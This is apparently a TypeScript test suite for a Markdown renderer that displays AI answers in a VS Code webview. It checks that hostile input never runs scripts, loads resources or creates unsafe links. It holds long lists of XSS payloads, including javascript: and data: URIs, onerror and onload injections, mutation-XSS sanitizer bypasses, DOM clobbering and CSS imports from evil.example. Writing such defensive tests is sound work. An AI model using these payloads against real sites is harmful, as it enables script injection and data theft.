// A model's answer as an attack: nothing runs, nothing is fetched, and no address but the web's and mail's can be followed.
import assert from 'node:assert/strict';
import { openMarkdownPage, type MarkdownBrowser } from './openMarkdownPage.ts';

/** What there may be below the container, icons of our own buttons aside. */
const allowedTags = new Set(
  'p br hr h1 h2 h3 h4 h5 h6 blockquote ul ol li pre div strong em s code span a table thead tbody tr th td input figure figcaption button'.split(
    ' ',
  ),
);
const allowedAttributes = new Set(
  'href title class start tabindex role aria-label aria-haspopup aria-expanded type disabled checked data-action data-code'.split(
    ' ',
  ),
);

const js = 'javascript:top.pwned=1';
const addresses = [
  js,
  'JaVaScRiPt:top.pwned=1',
  'java&#115;cript:top.pwned=1',
  'javascript&colon;top.pwned=1',
  '&#x6A;avascript:top.pwned=1',
  '&#1;javascript:top.pwned=1',
  'java%0ascript:top.pwned=1',
  'java&Tab;script:top.pwned=1',
  'java&NewLine;script:top.pwned=1',
  'vbscript:x',
  'command:workbench.action.quit',
  'command:x?%5B%5D',
  'vscode://ext/x',
  'vscode-webview://x/',
  'vscode-file://vscode-app/etc/passwd',
  'data:text/html,<script>top.pwned=1</script>',
  'data:image/svg+xml;base64,PHN2Zy8+',
  'file:///etc/passwd',
  'blob:null/x',
  'about:blank',
  '//evil.example/x',
  '\\\\evil.example/x',
  '/\\evil.example',
  '../x',
  'x',
  '#x',
  '?x',
  'ftp://evil.example',
  'intent://x',
  'view-source:https://evil.example',
];
const linkSyntaxes: ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}> "title")`,
  (address) => `[x][r]\n\n[r]: ${address}`,
  (address) => `[r]\n\n[r]: <${address}> 'title'`,
  (address) => `<${address}>`,
  (address) => address,
  (address) => `![x](${address})`,
  (address) => `![x][r]\n\n[r]: ${address}`,
  (address) => `[![x](${address})](${address})`,
  (address) => `| a |\n|---|\n| [x](${address}) |`,
  (address) => `- > # [x](${address})`,
  (address) => `<a href="${address}">x</a>`,
];

const html = [
  '<script>top.pwned=1</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=top.pwned=1>',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=top.pwned=1><use href="https://evil.example/x.svg#x"/></svg>',
  '<svg><script>top.pwned=1</script></svg>',
  '<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/y) }</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<form action=https://evil.example><button formaction=javascript:top.pwned=1>x</button><input name=key></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example" srcdoc="<script>top.pwned=1</script>"></iframe>',
  '<object data=https://evil.example></object><embed src=https://evil.example>',
  '<video src=https://evil.example poster=https://evil.example/p><source src=https://evil.example/s></video>',
  '<details open ontoggle=top.pwned=1><summary>x</summary></details>',
  '<input autofocus onfocus=top.pwned=1>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example)" id=x class=btn onclick=top.pwned=1>x</div>',
  '<a href="javascript:top.pwned=1" id=body name=body>x</a>',
  '<p id="getElementById" name="cookie">clobber</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.pwned=1&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=top.pwned=1>">',
  '<noscript><p title="</noscript><img src=x onerror=top.pwned=1>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.pwned=1>',
  '<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=top.pwned=1 src=1>">',
  '<template><img src=x onerror=top.pwned=1></template>',
  '<xmp><p title="</xmp><img src=x onerror=top.pwned=1>">',
  '<textarea></textarea><title></title><img src=x onerror=top.pwned=1>',
  '<a><b><i><u><table><a><img src=x onerror=top.pwned=1></table></a>',
  '<!--><img src=x onerror=top.pwned=1>-->',
  '<![CDATA[<img src=x onerror=top.pwned=1>]]>',
  '<?xml-stylesheet href="https://evil.example/x.css"?>',
  '<custom-element onclick=top.pwned=1 is=x>x</custom-element>',
  '<button data-action=copy class=md-code-button>Copy</button><figure class=md-code></figure>',
];
const markdownTricks = [
  ...html.map((text) => `| a |\n|---|\n| ${text} |`),
  ...html.map((text) => `> - ${text}`),
  '```<img src=x onerror=top.pwned=1>\n</code></pre><script>top.pwned=1</script>\n```',
  '```js" onclick="top.pwned=1\nx\n```',
  '```ts title="<img src=x onerror=top.pwned=1>"\nx\n```',
  '    </code></pre><img src=x onerror=top.pwned=1>',
  '`</code><img src=x onerror=top.pwned=1>`',
  '$$</code><img src=x onerror=top.pwned=1>$$',
  '[x](https://ok.example" onclick="top.pwned=1)',
  '[x](https://ok.example "\\" onclick=top.pwned=1 x=\\"")',
  '![" onerror="top.pwned=1](https://evil.example/x.png "t")',
  '![<img src=x onerror=top.pwned=1>](https://evil.example/x.png)',
  '[<img src=x onerror=top.pwned=1>](https://ok.example)',
  '<https://ok.example/"onclick="top.pwned=1>',
  'https://ok.example/"onmouseover="top.pwned=1',
  '[a](https://ok.example/`onclick=top.pwned=1`)',
  '# x {#id .class onclick=top.pwned=1}',
  '[__proto__]\n\n[constructor]\n\n[toString][hasOwnProperty]\n\n[__proto__]: https://ok.example\n[constructor]: javascript:top.pwned=1',
  '```constructor\nx\n```\n\n```__proto__\nx\n```\n\n```toString\nx\n```',
  '99999999999999999999. x\n\n999999999. y',
];

describe('hostile Markdown', () => {
  let browser: MarkdownBrowser;

  before(async function () {
    this.timeout(60_000);
    browser = await openMarkdownPage();
  });
  after(() => browser.close());

  /** All that is wrong in the page now. */
  async function wrongs(): Promise<string[]> {
    const { elements, problems, pwned } = await browser.page.evaluate(async () => {
      // An image's error event, the usual carrier, comes in a later task.
      await new Promise((resolve) => {
        setTimeout(resolve, 20);
      });
      const own = [...document.querySelectorAll('main *')].filter(
        (element) => !element.closest('.md-code-button > svg'),
      );
      return {
        elements: own.map((element) => ({
          tag: element.localName,
          attributes: [...element.attributes].map(({ name, value }) => [name, value] as const),
          isForeign: element.namespaceURI !== 'http://www.w3.org/1999/xhtml',
        })),
        problems: window.markdown.problems,
        pwned: 'pwned' in window,
      };
    });
    const found = [
      ...problems,
      ...browser.requests.map((url) => `requested ${url}`),
      ...(pwned ? ['a script ran'] : []),
    ];
    for (const { tag, attributes, isForeign } of elements) {
      if (isForeign || !allowedTags.has(tag)) {
        found.push(`<${tag}>`);
      }
      for (const [name, value] of attributes) {
        const isBadAddress = name === 'href' && !/^(?:https?:\/\/|mailto:)/.test(value);
        const isBadClass = name === 'class' && !/^(?:(?:md|hljs|language)-[\w+#-]+(?: |$))+$/.test(value);
        if (!allowedAttributes.has(name) || isBadAddress || isBadClass) {
          found.push(`<${tag} ${name}="${value}">`);
        }
      }
    }
    return found;
  }

  /** As a whole, and as it would stream in. */
  async function assertHarmless(texts: readonly string[]): Promise<void> {
    for (const text of texts) {
      await browser.page.evaluate((text) => window.markdown.stream([text]), text);
      assert.deepEqual(await wrongs(), [], text);
      await browser.page.evaluate((text) => window.markdown.stream(text.match(/[^]{1,3}/g) ?? []), text);
      assert.deepEqual(await wrongs(), [], `in pieces: ${text}`);
    }
  }

  it('shows HTML as text', async function () {
    this.timeout(60_000);
    await assertHarmless(html);
    for (const text of html.filter((line) => !line.includes('\n') && !line.includes('&'))) {
      await browser.page.evaluate((text) => window.markdown.stream([`x ${text}`]), text);
      assert.equal(await browser.page.evaluate(() => window.markdown.container.textContent), `x ${text}`);
    }
  });

  it('survives tricks with Markdown', async function () {
    this.timeout(60_000);
    await assertHarmless(markdownTricks);
  });

  for (const address of addresses) {
    it(`makes no link to ${address.slice(0, 50)} in any syntax`, async function () {
      this.timeout(30_000);
      const seen = await browser.page.evaluate(
        (texts) =>
          texts.map((text) => {
            window.markdown.stream([text]);
            const links = [...window.markdown.container.querySelectorAll('a')];
            links.forEach((link) => link.click());
            return { links: links.map(({ outerHTML }) => outerHTML), calls: window.markdown.calls.slice() };
          }),
        linkSyntaxes.map((syntax) => syntax(address)),
      );
      // `view-source:https://…` as bare text holds an address that is fine by itself.
      const isOurs = (link: string): boolean => link.startsWith('<a href="https://evil.example');
      assert.deepEqual(
        seen.flatMap(({ links }) => links.filter((link) => !(address.includes(':https:') && isOurs(link)))),
        [],
      );
      assert.deepEqual(await wrongs(), []);
    });
  }

  it('lets nothing dangerous through the sanitizer, even when the parser does not escape', async function () {
    this.timeout(60_000);
    for (const text of html) {
      await browser.page.evaluate((text) => {
        window.markdown.restart();
        window.markdown.container.append(window.markdown.sanitizedFragment(text));
      }, text);
      // The sanitizer reads the text as an inert document, in which the policy refuses style sheets and says so.
      const isReport = (wrong: string): boolean => wrong.startsWith('refused: style-src');
      assert.deepEqual(
        (await wrongs()).filter((wrong) => !isReport(wrong)),
        [],
        text,
      );
      await browser.page.evaluate(() => void window.markdown.problems.splice(0));
    }
  });

  it('never loads an image, and shows its description and host instead', async () => {
    const text = [
      '![a *cat*](https://evil.example/cat.png?key=secret "t")',
      '![](http://evil.example:8080/x.gif)',
      '![ref]',
      '![local](file:///x.png)',
      '[![linked](https://evil.example/badge.svg)](https://ok.example/)',
      '[ref]: https://evil.example/ref.png',
    ].join('\n\n');
    const shown = await browser.page.evaluate((text) => {
      window.markdown.stream([text]);
      const paragraphs = [...window.markdown.container.querySelectorAll('p')];
      return paragraphs.map((p) => [p.textContent, p.querySelector('a')?.getAttribute('href') ?? null]);
    }, text);
    assert.deepEqual(shown, [
      ['image: a cat (evil.example)', 'https://evil.example/cat.png?key=secret'],
      ['image (evil.example:8080)', 'http://evil.example:8080/x.gif'],
      ['image: ref (evil.example)', 'https://evil.example/ref.png'],
      ['image: local (not shown)', null],
      ['image: linked (evil.example)', 'https://ok.example/'],
    ]);
    assert.deepEqual(await wrongs(), []);
  });

  it('opens a link only through the action, and shows its whole address', async () => {
    await browser.page.evaluate(() =>
      window.markdown.stream(['[docs](https://user@ok.example/a?b#c "other title") <me@ok.example>']),
    );
    const links = browser.page.locator('main a');
    assert.equal(await links.first().getAttribute('title'), 'https://user@ok.example/a?b#c');
    let reachedWindow = false;
    await browser.page.exposeFunction('reachedWindow', () => {
      reachedWindow = true;
    });
    await browser.page.evaluate(() => {
      const { reachedWindow } = window as unknown as { reachedWindow(): void };
      window.addEventListener('click', reachedWindow);
      window.addEventListener('auxclick', reachedWindow);
    });
    await links.first().click();
    await links.first().click({ button: 'middle' });
    await links.nth(1).focus();
    await browser.page.keyboard.press('Enter');
    assert.deepEqual(await browser.page.evaluate(() => window.markdown.calls), [
      'openLink:https://user@ok.example/a?b#c',
      'openLink:https://user@ok.example/a?b#c',
      'openLink:mailto:me@ok.example',
    ]);
    // VS Code's own listener sits there and would open the address once more.
    assert.equal(reachedWindow, false);
    assert.equal(browser.page.context().pages().length, 1);
    assert.deepEqual(await wrongs(), []);
  });

  it('links addresses in running text, but neither file names nor other schemes', async () => {
    const links = await browser.page.evaluate(() => {
      window.markdown.stream([
        'https://a.example/x. http://b.example mailto:c@d.example retry.ts README.md main.rs www.e.example f@g.example ftp://h.example //i.example',
      ]);
      return [...window.markdown.container.querySelectorAll('a')].map(({ href }) => href);
    });
    assert.deepEqual(links, ['https://a.example/x', 'http://b.example/', 'mailto:c@d.example']);
  });
});
